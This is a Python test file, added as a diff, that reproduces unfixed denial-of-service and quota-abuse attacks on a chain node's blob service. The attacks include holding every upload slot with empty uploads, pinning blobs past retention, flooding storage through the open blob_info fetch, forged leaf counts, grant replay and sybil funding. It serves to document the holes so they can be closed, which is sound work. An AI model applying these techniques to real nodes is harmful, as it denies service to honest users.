@@ -1,0 +1,513 @@
+"""Attacks on the blob service that the upload rules do not yet stop. Each test drives the real
+code (the blob RPC methods over a dev chain, the blob store, the peer fetch) and asserts what the
+attacker achieves: it passes while the hole is open, and should be turned around once it is
+closed."""
+
+from __future__ import annotations
+
+import time
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+import trio
+
+from chain.client.blob_info import BlobInfo, UploadGrant
+from chain.client.blobs import grant_json
+from chain.service.blob_grants import UploadGate
+from chain.service.blob_protocol import BlobLeaf, decode_blob_leaf, encode_blob_leaf
+from chain.service.network import NodeNetwork
+from chain.service.rpc.blob import add_blob_methods
+from chain.service.rpc.errors import RpcError
+from chain.service.rpc.registry import Method, RpcMethods
+from chain.storage.blob_ledger import BlobLedger, BlobRecord, charge_of
+from chain.storage.blob_uploads import MAX_UPLOADS, STALL_IDLE_MS, UPLOAD_IDLE_MS
+from chain.storage.blobs import BlobStore, StorageFull
+from chain.storage.kv import MemoryStore, WriteBatch
+from p2p.errors import FailureReason, RequestFailed
+from runtime.primitives import merkle
+from runtime.primitives.hashing import to_hex
+from runtime.primitives.keys import Keypair, dev_keypair
+from runtime.primitives.merkle import merkle_root, verify_merkle_proof
+from runtime.workloads import MAX_LEAVES
+from tests.chain.service.test_blob_grants import Node
+
+MIB = 1024 * 1024
+ATTACKERS = [dev_keypair(n) for n in ("Alice", "Bob", "Charlie", "Dave")]
+HONEST = dev_keypair("Ferdie")
+
+
+class ClockedNode(Node):
+    """The grant tests' dev node, with a clock the test moves."""
+
+    def __init__(self, blocks: int, blobs: BlobStore | None = None) -> None:
+        super().__init__(blocks)
+        self.now_ms = 1_000
+        if blobs is not None:
+            self.blobs = blobs
+        self.methods = RpcMethods()
+        add_blob_methods(self.methods, self.blobs, lambda: self.now_ms, self.gate)
+        self._nonce = 0
+
+    def fresh(self, signer: Keypair, info: BlobInfo) -> UploadGrant:
+        self._nonce += 1
+        return self.grant(signer, nonce=self._nonce.to_bytes(16, "big"), info=info)
+
+
+# ---------------------------------------------------------------------------------------------
+# 1. Sixteen empty uploads, kept alive by one tiny request every 29 s, hold every slot forever
+
+
+def test_four_funded_accounts_hold_every_upload_slot_forever_with_empty_uploads() -> None:
+    """The minimum rate is capped at the declared size, so an upload declared as 0 bytes is never
+    behind; any request on it (even a refused one) resets its idle clock. Four funded accounts
+    take the 16 slots and keep them for as long as they like: the issue's `blob_begin(1, 1)` x16
+    lockout is back, for the price of 4 x 1 XPL held (not spent)."""
+    node = ClockedNode(blocks=2)
+    ids: list[str] = []
+    for k, attacker in enumerate(ATTACKERS):
+        for i in range(4):
+            info = BlobInfo(bytes([k * 4 + i + 1]) * 32, 1, 0)  # any root, 1 leaf, 0 bytes
+            ids.append(node.begin(node.fresh(attacker, info), info))
+    assert node.blobs.uploads_in_progress == MAX_UPLOADS
+
+    honest = BlobInfo(merkle_root([b"honest input"]), 1, 12)
+    refused = keepalives = 0
+    hours = 3
+    for _ in range(hours * 3600 // 29):
+        node.now_ms += 29_000
+        for upload_id in ids:  # one tiny request per upload per 29 s: an empty leaf
+            node.call("blob_put", upload_id, 0, ["0x"])
+            keepalives += 1
+        with pytest.raises(RpcError) as caught:
+            node.begin(node.fresh(HONEST, honest), honest)
+        assert caught.value.data == {"kind": "busy"}
+        refused += 1
+    assert node.blobs.uploads_in_progress == MAX_UPLOADS
+    assert node.blobs.uploads.dropped_stalled == 0
+    assert node.now_ms > UPLOAD_IDLE_MS * 10  # far past every idle and stall limit
+    assert refused == hours * 3600 // 29  # every honest try in 3 hours was refused as busy
+    # What it cost: 16 x 320 bytes of quota and ~0.55 requests per second, no data at all.
+    assert keepalives / (hours * 3600) < 0.6
+
+
+# ---------------------------------------------------------------------------------------------
+# 2. An upload in progress that declares a stored blob's root pins it: never deleted, off quota
+
+
+def _upload(blobs: BlobStore, account: bytes, leaves: list[bytes], now_ms: int) -> bytes:
+    root = merkle_root(leaves)
+    upload_id = blobs.begin(
+        len(leaves), sum(map(len, leaves)), account=account, root=root, now_ms=now_ms
+    )
+    blobs.put(upload_id, 0, leaves, now_ms=now_ms)
+    return blobs.finish(upload_id, now_ms=now_ms).root
+
+
+def test_an_empty_upload_declaring_a_stored_root_keeps_it_forever_and_off_the_quota() -> None:
+    """The sweep binds every root an upload in progress declares, and a bound blob is neither
+    deleted nor counted against its owner's quota. A 0-byte upload naming a stored blob's root
+    (charge 320 bytes) pins that blob; with 3 such pins one account stores 4x its quota, and the
+    pinned blobs outlive the retention period for good."""
+    quota = 4 * MIB
+    retention = 60_000
+    blobs = BlobStore(
+        MemoryStore(), account_quota_bytes=quota, max_stored_bytes=64 * MIB, retention_ms=retention
+    )
+    attacker = ATTACKERS[0].public
+    chunk = quota - 4096  # one blob that nearly fills the quota
+    now = 1_000
+    pins: list[str] = []
+    roots: list[bytes] = []
+    for k in range(4):
+        roots.append(_upload(blobs, attacker, [bytes([k]) * chunk], now))
+        if k < 3:  # three slots pin, the fourth stays free for uploading
+            pins.append(blobs.begin(1, 0, account=attacker, root=roots[-1], now_ms=now))
+            blobs.sweep(now, [])  # the pin binds the blob: it leaves the quota
+            assert blobs.ledger.unbound_bytes_of(attacker) == 0
+    stored_by_attacker = sum(blobs.ledger.get(r).charge for r in roots)  # type: ignore[union-attr]
+    assert stored_by_attacker > 3.9 * quota
+    # Ten retention periods later, with one empty put per pin every 29 s, the pinned blobs stay.
+    for _ in range(10 * retention // 29_000 + 1):
+        now += 29_000
+        for pin in pins:
+            blobs.put(pin, 0, [b""], now_ms=now)
+        blobs.sweep(now, [])
+    assert now > 10 * retention
+    assert all(root in blobs.ledger for root in roots[:3])
+    assert roots[3] not in blobs.ledger  # only the unpinned one went
+    assert blobs.ledger.unbound_bytes_of(attacker) == 0
+
+
+# ---------------------------------------------------------------------------------------------
+# Peer fetch: what a stranger gets by asking `blob_info` for roots a peer of its own serves
+
+
+class FakePeers:
+    """The `p2p.Network` a NodeNetwork asks: one peer that serves `serve(root, index)`."""
+
+    def __init__(self, serve: Any) -> None:
+        self.serve = serve
+        self.requests = 0
+
+    def peers(self) -> list[SimpleNamespace]:
+        return [SimpleNamespace(peer="attacker")]
+
+    async def request(self, peer: str, protocol: str, data: bytes) -> bytes:
+        from chain.service.blob_protocol import decode_blob_request
+
+        self.requests += 1
+        root, index = decode_blob_request(data)
+        answer = self.serve(root, index)
+        if answer is None:
+            raise RequestFailed(peer, protocol, FailureReason.REFUSED, "not held")
+        return answer
+
+    def report(self, peer: str, cost: int, reason: str) -> None:
+        pass
+
+
+def fetcher(blobs: BlobStore, peers: FakePeers) -> NodeNetwork:
+    network = object.__new__(NodeNetwork)
+    network.service = SimpleNamespace(blobs=blobs)  # type: ignore[assignment]
+    network.network = peers  # type: ignore[assignment]
+    network._fetching = {}
+    return network
+
+
+def rpc_over(blobs: BlobStore, network: NodeNetwork) -> RpcMethods:
+    methods = RpcMethods()
+    add_blob_methods(methods, blobs, lambda: 1_000, UploadGate(None), network.fetch_blob)  # type: ignore[arg-type]
+    return methods
+
+
+def call_async(methods: RpcMethods, name: str, *params: Any) -> Any:
+    entry = methods.lookup(name)
+    assert isinstance(entry, Method)
+    return trio.run(entry.handler, list(params))
+
+
+def real_blob_server(blobs_by_root: dict[bytes, list[bytes]]) -> Any:
+    def serve(root: bytes, index: int) -> bytes | None:
+        leaves = blobs_by_root.get(root)
+        if leaves is None or index >= len(leaves):
+            return None
+        proof = tuple(merkle.merkle_proof(leaves, index))
+        return encode_blob_leaf(BlobLeaf(leaves[index], proof, len(leaves), sum(map(len, leaves))))
+
+    return serve
+
+
+def test_a_stranger_fills_the_node_limit_through_blob_info_charging_no_account() -> None:
+    """`blob_info` (open to all) fetches a blob the node lacks from its peers and stores it with
+    no owner: no grant, no account quota, no rate. A stranger whose own node is a peer fills the
+    node's whole `--blob-max-bytes`, and honest signed uploads are refused as storage_full for a
+    retention period (and again after, by asking again)."""
+    limit = 16 * MIB
+    blobs = BlobStore(MemoryStore(), max_stored_bytes=limit, account_quota_bytes=4 * MIB)
+    served = {}
+    for k in range(40):
+        leaves = [bytes([k, 0]) * (256 * 1024)]  # 512 KiB blobs
+        served[merkle_root(leaves)] = leaves
+    peers = FakePeers(real_blob_server(served))
+    methods = rpc_over(blobs, fetcher(blobs, peers))
+    fetched = 0
+    for root in served:
+        if call_async(methods, "blob_info", to_hex(root)) is not None:
+            fetched += 1
+    assert blobs.stored_bytes > limit - MIB  # the node's limit, filled by one stranger
+    owners = {blobs.ledger.get(r).owner for r in served if r in blobs.ledger}  # type: ignore[union-attr]
+    assert fetched >= 31 and owners == {None}  # no account charged for any of them
+    with pytest.raises(StorageFull):
+        blobs.begin(1, MIB, account=HONEST.public, root=bytes(32), now_ms=1_000)
+
+
+def _fake_first_leaf(leaf: bytes, leaf_count: int) -> tuple[bytes, tuple[bytes, ...]]:
+    """A root and a proof that `leaf` is leaf 0 of `leaf_count` leaves: a peer makes these up
+    with one hash per level, whatever the count."""
+    acc, proof = merkle.leaf_hash(leaf), []
+    pos, width = 0, leaf_count
+    while width > 1:
+        if pos ^ 1 < width:
+            sibling = bytes(32)
+            proof.append(sibling)
+            acc = merkle.node_hash(acc, sibling)
+        pos //= 2
+        width = (width + 1) // 2
+    return merkle._bind(acc, leaf_count), tuple(proof)
+
+
+def test_a_peers_made_up_leaf_count_is_trusted_up_to_2_pow_32() -> None:
+    """The fetch checks the first leaf's proof and its declared size, not its leaf count against
+    MAX_LEAVES: it then allocates a list of `leaf_count` slots and starts one task per leaf before
+    anything else is checked. 2**32 - 1 passes every check it makes (a 32 GiB list: the node dies);
+    here 2 x MAX_LEAVES is run, and the node sends that many requests for one `blob_info`."""
+    huge = 2**32 - 1
+    root, proof = _fake_first_leaf(b"x", huge)
+    answer = decode_blob_leaf(encode_blob_leaf(BlobLeaf(b"x", proof, huge, 1)))
+    verify_merkle_proof(root, answer.leaf, 0, answer.leaf_count, answer.proof)  # passes
+    assert answer.leaf_count == huge and answer.size == 1  # size 1 passes the MAX_BLOB_BYTES check
+
+    count = 2 * MAX_LEAVES
+    root, proof = _fake_first_leaf(b"x", count)
+    first = encode_blob_leaf(BlobLeaf(b"x", proof, count, 1))
+    peers = FakePeers(lambda r, i: first if i == 0 else None)
+    blobs = BlobStore(MemoryStore())
+    started = time.perf_counter()
+    assert call_async(rpc_over(blobs, fetcher(blobs, peers)), "blob_info", to_hex(root)) is None
+    elapsed = time.perf_counter() - started
+    assert peers.requests == count  # one RPC call from a stranger: 131,072 peer requests
+    print(f"one blob_info: {peers.requests} peer requests, {elapsed:.1f} s of the node's loop")
+
+
+def test_a_peers_leaves_are_buffered_past_the_declared_size_and_the_blob_limit() -> None:
+    """The declared size is checked, the bytes are not: a peer that says 1 byte and serves large
+    leaves has every one buffered in memory until the last arrives; only `store_leaves` then
+    refuses them. Up to MAX_LEAVES x 8 MiB (512 GiB) for one `blob_info`, with no account."""
+    leaf = b"\x07" * MIB
+    count = 24
+    levels = merkle.tree_levels([merkle.leaf_hash(leaf)] * count)
+    root = merkle._bind(levels[-1][0], count)
+
+    def serve(r: bytes, index: int) -> bytes:
+        proof = tuple(merkle.proof_from_levels(levels, index))
+        return encode_blob_leaf(BlobLeaf(leaf, proof, count, 1))  # "1 byte"
+
+    buffered: list[int] = []
+    blobs = BlobStore(MemoryStore(), max_blob_bytes=8 * MIB)
+    original = blobs.store_leaves
+
+    def store_leaves(leaves: Any, **kwargs: Any) -> Any:
+        buffered.append(sum(map(len, leaves)))
+        return original(leaves, **kwargs)
+
+    blobs.store_leaves = store_leaves  # type: ignore[method-assign]
+    peers = FakePeers(serve)
+    assert call_async(rpc_over(blobs, fetcher(blobs, peers)), "blob_info", to_hex(root)) is None
+    assert buffered == [count * MIB]  # 24 MiB held for a blob declared as 1 byte, 3x the limit
+
+
+# ---------------------------------------------------------------------------------------------
+# 3. Grants: replay after a restart (or on another node of the chain), and unsigned CPU
+
+
+def test_a_grant_replays_after_a_restart_and_charges_its_account_again() -> None:
+    """The node remembers admitted nonces in memory only, and a grant names no node: within its
+    64 blocks, whoever saw it (on the wire, in a proxy's log) begins the upload again on a
+    restarted node, or on any other node of the chain, in the victim's name."""
+    node = ClockedNode(blocks=2)
+    info = BlobInfo(merkle_root([b"victim data"]), 1, 11)
+    grant = node.fresh(HONEST, info)
+    node.call("blob_finish", _put(node, node.begin(grant, info), b"victim data"))
+    node.gate = UploadGate(node.core.store)  # the node restarts: a fresh gate over its chain
+    node.methods = RpcMethods()
+    add_blob_methods(node.methods, node.blobs, lambda: node.now_ms, node.gate)
+    replayed = node.begin(grant, info)  # the same grant, accepted again
+    assert node.blobs.uploads.count_of(HONEST.public) == 1
+    assert node.blobs.uploads.get(replayed).account == HONEST.public  # type: ignore[union-attr]
+
+
+def _put(node: ClockedNode, upload_id: str, data: bytes) -> str:
+    node.call("blob_put", upload_id, 0, [to_hex(data)])
+    return upload_id
+
+
+def test_a_stranger_makes_the_node_verify_signatures_for_free() -> None:
+    """With no account at all, a grant naming a fresh key and a recent block reaches the Ed25519
+    check (the account's balance is read after it); refused grants are not remembered, so the
+    same request can be sent again and again."""
+    node = ClockedNode(blocks=2)
+    info = BlobInfo(bytes(32), 1, 1)
+    stranger = Keypair.from_seed(b"\x33" * 32)
+    bad = UploadGrant(stranger.public, node.core.store.best_hash, b"\x01" * 16, b"\x02" * 64)
+    body = grant_json(bad)
+    rounds = 2_000
+    started = time.perf_counter()
+    for _ in range(rounds):
+        with pytest.raises(RpcError) as caught:
+            node.call("blob_begin", 1, 1, to_hex(info.root), body)
+        assert caught.value.data == {"kind": "bad_signature"}
+    per_call_us = (time.perf_counter() - started) / rounds * 1e6
+    print(f"unsigned blob_begin reaching the signature check: {per_call_us:.0f} us each")
+    assert per_call_us > 0
+
+
+# ---------------------------------------------------------------------------------------------
+# 4. The ledger in memory: tiny blobs cost the node more RAM than they are charged
+
+
+def test_the_ledger_keeps_every_record_in_memory_at_a_large_fraction_of_its_charge() -> None:
+    """Every stored blob's record is held in Python objects; a 1-byte blob is charged 321 bytes
+    against the node's limit, and its record alone takes most of that in RAM (the first sweep
+    also copies every root into its cursor). At the default 16 GiB limit filled with tiny blobs
+    (53 million records, fetched for free through blob_info), the ledger would need ~10+ GiB."""
+    import tracemalloc
+
+    kv = MemoryStore()
+    count = 20_000
+    batch = WriteBatch()
+    roots = [i.to_bytes(32, "big") for i in range(count)]
+    ledger = BlobLedger(kv)
+    for root in roots:
+        ledger.record_stored(batch, root, BlobRecord(None, 1, 1, 1, False))
+    kv.write(batch)
+    tracemalloc.start()
+    before = tracemalloc.get_traced_memory()[0]
+    loaded = BlobLedger(kv)
+    loaded.sweep(2, [], retention_ms=10**12)  # builds the cursor
+    after = tracemalloc.get_traced_memory()[0]
+    tracemalloc.stop()
+    per_record = (after - before) / count
+    print(f"ledger RAM per 1-byte blob: {per_record:.0f} bytes, charged {charge_of(1, 1)}")
+    assert len(loaded) == count
+    assert per_record > 0.5 * charge_of(1, 1)
+
+
+# ---------------------------------------------------------------------------------------------
+# Help for the figures above
+
+
+def test_sweep_examines_at_most_4096_records_per_10_s() -> None:
+    """The sweep looks at 4,096 records per 10 s (410 per second): a store of N tiny blobs takes
+    N / 410 seconds to be looked at once, so past 35 million records (11 GiB of 1-byte blobs,
+    within the default limit) an expired blob waits more than one retention period on top of
+    its own before it is deleted."""
+    kv = MemoryStore()
+    ledger = BlobLedger(kv)
+    batch = WriteBatch()
+    for i in range(10_000):
+        ledger.record_stored(batch, i.to_bytes(32, "big"), BlobRecord(None, 1, 1, 1, False))
+    kv.write(batch)
+    ledger = BlobLedger(kv)
+    result = ledger.sweep(10**9, [], retention_ms=1)
+    assert len(result.deleted) == 4_096  # all 10,000 expired, 4,096 deleted this sweep
+    assert 86_400 * 4_096 / 10 < 35_400_000  # one day of sweeps looks at 35.4 M records at most
+    assert STALL_IDLE_MS == 30_000
+
+
+# ---------------------------------------------------------------------------------------------
+# 5. blob_get cycling over five largest-leaf-count blobs rebuilds a whole tree per call
+
+
+def test_blob_get_over_five_widest_blobs_rebuilds_a_65536_leaf_tree_every_call() -> None:
+    """The proof cache holds 2**19 tree nodes: four trees of MAX_LEAVES leaves. A reader (no
+    account: blob_get is open to all, and peers ask the same through the blob protocol, 200
+    requests per second each) who cycles over five such blobs misses the cache every time, and
+    each miss reads 2 MiB of hashes and computes 65,535 node hashes: ~75 ms of the node's thread
+    for a request that costs ~2 us when cached. The five blobs cost one funded account ~21 MiB of
+    quota (65,536 one-byte leaves each), or nothing if fetched through blob_info."""
+    from chain.storage import blobs as blobs_module
+
+    store = BlobStore(MemoryStore())
+    roots = [
+        store.store_leaves(
+            [bytes([k, i % 256, i // 256]) for i in range(MAX_LEAVES)], now_ms=1
+        ).root
+        for k in range(5)
+    ]
+    methods = RpcMethods()
+    add_blob_methods(methods, store, lambda: 1_000, UploadGate(None))  # type: ignore[arg-type]
+    builds = 0
+    original = blobs_module.tree_levels
+
+    def counting(hashes: Any) -> Any:
+        nonlocal builds
+        builds += 1
+        return original(hashes)
+
+    blobs_module.tree_levels = counting  # type: ignore[assignment]
+    try:
+        calls = 20
+        started = time.perf_counter()
+        for j in range(calls):
+            call_async(methods, "blob_get", to_hex(roots[j % 5]), 0)
+        cycling = (time.perf_counter() - started) / calls
+        started = time.perf_counter()
+        for _ in range(calls):
+            call_async(methods, "blob_get", to_hex(roots[4]), 0)
+        cached = (time.perf_counter() - started) / calls
+    finally:
+        blobs_module.tree_levels = original  # type: ignore[assignment]
+    assert builds == calls  # every cycling call rebuilt a 65,536-leaf tree; the cached ones none
+    print(f"blob_get: {cycling * 1e3:.1f} ms cycling five roots, {cached * 1e3:.2f} ms cached")
+    assert cycling > 20 * cached
+
+
+# ---------------------------------------------------------------------------------------------
+# 6. The attacker fills the free slots, then its next begin drops an honest slow upload
+
+
+def test_an_attacker_drops_an_honest_upload_sending_at_half_a_mib_per_s() -> None:
+    """An honest 64 MiB upload over a 4 Mbit/s link (0.5 MiB/s) is 'stalled' from 20 s on (at
+    0.9 MiB/s, from 100 s on: a 256 MiB input takes 284 s).
+    The attacker takes every free slot with empty uploads (which are never stalled), so its next
+    begin finds no room and drops the honest upload, which then fails (UnknownUpload): a stranger
+    with four funded accounts kills any upload slower than the minimum rate, at will."""
+    from chain.storage.blobs import UnknownUpload
+
+    blobs = BlobStore(MemoryStore())
+    honest = HONEST.public
+    size = 64 * MIB
+    upload_id = blobs.begin(64, size, account=honest, root=bytes(32), now_ms=0)
+    attackers = [a.public for a in ATTACKERS]
+    taken = [  # 15 empty uploads fill the other slots
+        blobs.begin(1, 0, account=attackers[k // 4], root=bytes([k + 1]) * 32, now_ms=0)
+        for k in range(MAX_UPLOADS - 1)
+    ]
+    leaf = b"\x01" * MIB
+    now = 0
+    for index in range(40):  # 0.5 MiB/s: one 1 MiB leaf every 2 s
+        now = (index + 1) * 2_000
+        blobs.put(upload_id, index, [leaf], now_ms=now)
+        for empty in taken:  # the attacker keeps its own uploads alive
+            blobs.put(empty, 0, [b""], now_ms=now)
+    # The attacker's 16th begin (its fourth account's last slot) finds no room: the honest
+    # upload, 30 MiB behind at 80 s, is the only stalled one and goes.
+    blobs.begin(1, 0, account=attackers[3], root=b"\xee" * 32, now_ms=now)
+    with pytest.raises(UnknownUpload):
+        blobs.put(upload_id, 40, [leaf], now_ms=now + 2_000)
+    assert blobs.uploads.dropped_stalled == 1
+    assert all(blobs.uploads.get(empty) is not None for empty in taken)
+
+
+# ---------------------------------------------------------------------------------------------
+# 7. One XPL, passed on from account to account, funds every sybil's quota in turn
+
+
+def test_one_xpl_passed_along_fills_a_quota_per_hop() -> None:
+    """The balance is looked at when an upload begins, never after: an account uploads its
+    quota, hands its XPL to the next account, which does the same. Its blobs stay (for the
+    retention period, or for good with a pin), so one XPL fills N quotas at the price of N
+    transfer fees, not N XPL held."""
+    from tests.chain.core.conftest import Helpers
+
+    quota = 2 * MIB
+    node = ClockedNode(blocks=2, blobs=BlobStore(MemoryStore(), account_quota_bytes=quota))
+    core, chain = node.core, node.chain
+    xpl = 10**12
+    hops = [Keypair.from_seed(bytes([0x70 + i]) * 32) for i in range(5)]
+    slot = core.best_header.digest.slot
+    nonces = {ATTACKERS[0].public: 0}
+
+    def send(signer: Keypair, dest: bytes, amount: int) -> None:
+        nonlocal slot
+        nonce = nonces.get(signer.public, 0)
+        nonces[signer.public] = nonce + 1
+        tx = Helpers.transfer(signer, dest, amount, nonce=nonce, genesis_hash=core.genesis_hash)
+        core.submit_transaction(tx.raw, chain.at(slot))
+        slot += 1
+        assert Helpers.authored(core.on_timer("slot", chain.at(slot))) is not None
+
+    send(ATTACKERS[0], hops[0].public, 2 * xpl)  # the attacker's only money: 2 XPL
+    for i, hop in enumerate(hops):
+        data = bytes([i]) * (quota - 1024)
+        info = BlobInfo(merkle_root([data]), 1, len(data))
+        node.call("blob_finish", _put(node, node.begin(node.fresh(hop, info), info), data))
+        if i + 1 < len(hops):  # pass the money on, leaving this account below 1 XPL
+            free = Helpers.free(core, hop.public)
+            send(hop, hops[i + 1].public, free - xpl // 10)
+            assert Helpers.free(core, hop.public) < xpl
+    funded = [hop for hop in hops if Helpers.free(core, hop.public) >= xpl]
+    held = [node.blobs.ledger.unbound_bytes_of(hop.public) for hop in hops]
+    assert len(funded) == 1 and all(h > quota - 2048 for h in held)
+    assert node.blobs.stored_bytes > 4.9 * quota  # five quotas, one funded account
